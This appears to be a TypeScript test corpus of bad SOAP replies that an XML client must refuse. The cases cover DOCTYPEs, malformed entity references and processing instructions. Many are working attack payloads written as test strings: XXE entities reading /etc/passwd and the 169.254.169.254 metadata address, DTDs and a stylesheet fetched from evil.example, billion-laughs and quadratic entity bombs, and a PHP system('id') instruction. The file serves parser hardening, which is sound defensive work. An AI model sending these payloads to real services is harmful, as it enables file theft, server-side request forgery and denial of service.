import type { BadReply } from "../corpus.js";
import { inAnswer, inBody, inResult, refused } from "./table.js";

export const replies: readonly BadReply[] = [
  ...refused("doctype", {
    "a DOCTYPE of HTML | SOAP 1.1 section 3: no DTD":
      '<?xml version="1.0"?><!DOCTYPE html><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "an empty DOCTYPE | SOAP 1.1 section 3: no DTD":
      '<?xml version="1.0"?><!DOCTYPE Envelope><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "an external DTD | would fetch what the reply names":
      '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a public DTD | would fetch what the reply names":
      '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//X//EN" "http://evil.example/x.dtd"><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: a file | would read a file of the caller's":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&f;</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: an address | would call another host":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/latest/meta-data/">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&f;</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: a parameter entity | would call another host while parsing":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "XXE: PHP's filter | would read a file of the caller's":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&f;</{{result}}>{{rest}}{{end}}{{close}}',
    "an entity bomb | a thousand million lols":
      '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "lol"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;"><!ENTITY a3 "&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;&a2;"><!ENTITY a4 "&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;&a3;"><!ENTITY a5 "&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;&a4;"><!ENTITY a6 "&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;&a5;"><!ENTITY a7 "&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;&a6;"><!ENTITY a8 "&a7;&a7;&a7;&a7;&a7;&a7;&a7;&a7;&a7;&a7;"><!ENTITY a9 "&a8;&a8;&a8;&a8;&a8;&a8;&a8;&a8;&a8;&a8;">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&a9;</{{result}}>{{rest}}{{end}}{{close}}',
    "an entity that holds itself | never ends":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&a;</{{result}}>{{rest}}{{end}}{{close}}',
    "a quadratic entity bomb | one long entity, many times": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${"a".repeat(2000)}">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;</{{result}}>{{rest}}{{end}}{{close}}`,
    "the result by an entity | an internal entity is one too":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY ok "{{ok}}">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>&ok;</{{result}}>{{rest}}{{end}}{{close}}',
    "amp declared anew | a predefined entity with another meaning":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY amp "<evil/>">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}&amp;</{{result}}>{{rest}}{{end}}{{close}}',
    "a default attribute | would nil what is not":
      '<?xml version="1.0"?><!DOCTYPE x [<!ATTLIST loginResult nil CDATA "true">]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a DOCTYPE of 100,000 brackets | no pattern may stumble over it": `<?xml version="1.0"?><!DOCTYPE x ${"[".repeat(1001)}]><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}`,
  }),
  ...refused("malformed", {
    "a DOCTYPE in small letters | HTML's way; XML knows no such markup":
      '<?xml version="1.0"?><!doctype html><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a DOCTYPE that is cut off | an open bracket":
      '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a <soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{start}}<{{result}}>{{ok}}</{{result}}>{{rest}}{{end}}{{close}}',
    "a DOCTYPE after the envelope | it stands before the root or not at all": "{{good}}<!DOCTYPE x>",
    "a DOCTYPE inside the envelope | it stands before the root or not at all": inBody("<!DOCTYPE x>{{answer}}"),
    "an ENTITY inside the envelope | no markup of a document's content": '{{open}}<!ENTITY a "b">{{answer}}{{close}}',
    "an undefined entity | it is not declared": inResult("{{ok}}&undefined;"),
    "an entity of HTML | XML knows five": inResult("{{ok}}&nbsp;"),
    "an entity in capitals | XML minds the case": inResult("{{ok}}&AMP;"),
    "the entity __proto__ | looked up in a table of JavaScript's": inResult("{{ok}}&__proto__;"),
    "the entity constructor | looked up in a table of JavaScript's": inResult("{{ok}}&constructor;"),
    "the entity toString | looked up in a table of JavaScript's": inResult("{{ok}}&toString;"),
    "the entity hasOwnProperty | looked up in a table of JavaScript's": inResult("{{ok}}&hasOwnProperty;"),
    "a reference to NUL | no character of XML": inResult("{{ok}}&#0;"),
    "a reference to NUL in hexadecimal | no character of XML": inResult("{{ok}}&#x0;"),
    "a reference to a control character | no character of XML 1.0": inResult("{{ok}}&#8;"),
    "a reference to a surrogate | half a character": inResult("{{ok}}&#xD800;"),
    "a pair of surrogates by reference | two halves are no character here": inResult("{{ok}}&#xD83D;&#xDE00;"),
    "a reference to U+FFFE | no character of XML": inResult("{{ok}}&#xFFFE;"),
    "a reference beyond Unicode | no character": inResult("{{ok}}&#x110000;"),
    "a reference of 400 digits | no character": `{{open}}{{start}}<{{result}}>{{ok}}&#${"9".repeat(400)};</{{result}}>{{rest}}{{end}}{{close}}`,
    "a negative reference | no number": inResult("{{ok}}&#-65;"),
    "an empty reference | no name": "{{open}}{{start}}<{{result}}>{{ok}}&;</{{result}}>{{rest}}{{end}}{{close}}",
    "an empty numeric reference | no number": inResult("{{ok}}&#;"),
    "an empty hexadecimal reference | no number": inResult("{{ok}}&#x;"),
    "a reference with a capital X | XML wants a small one": inResult("{{ok}}&#X41;"),
    "a reference with a letter in it | no number": inResult("{{ok}}&#6A;"),
    "a reference without an end | a text that was not escaped": inResult("{{ok}}&amp"),
    "a reference with a blank | no name": inResult("{{ok}}& amp;"),
    "an undefined entity in an attribute | it is not declared": inAnswer('{{okResult}}<n a="&evil;"/>{{rest}}'),
  }),
  ...refused("instruction", {
    "a stylesheet | SOAP 1.1 section 3: no processing instructions":
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><soap:Envelope xmlns:soap="{{envelope}}"><soap:Body>{{answer}}{{close}}',
    "a processing instruction in the body | SOAP 1.1 section 3: no processing instructions":
      "{{open}}<?php system('id') ?>{{answer}}{{close}}",
    "a processing instruction in the result | would split the literal": inResult("{{ok}}<?x y?>"),
    "a processing instruction after the end | SOAP 1.1 section 3: no processing instructions": "{{good}}<?x y?>",
  }),
];
